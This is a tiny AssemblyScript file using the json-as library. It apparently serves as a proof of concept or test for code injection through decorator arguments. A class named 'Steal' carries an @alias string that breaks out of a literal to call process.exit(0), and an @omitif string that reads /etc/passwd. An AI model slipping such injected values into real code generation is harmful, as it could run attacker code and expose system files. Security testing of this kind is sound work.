import { JSON } from "json-as";
@json class Steal { @alias("\");process.exit(0);//") @omitif("require('fs').readFileSync('/etc/passwd')") member: string = ""; }
export function handle(input: string): string { return JSON.stringify<Steal>(JSON.parse<Steal>(input)); }
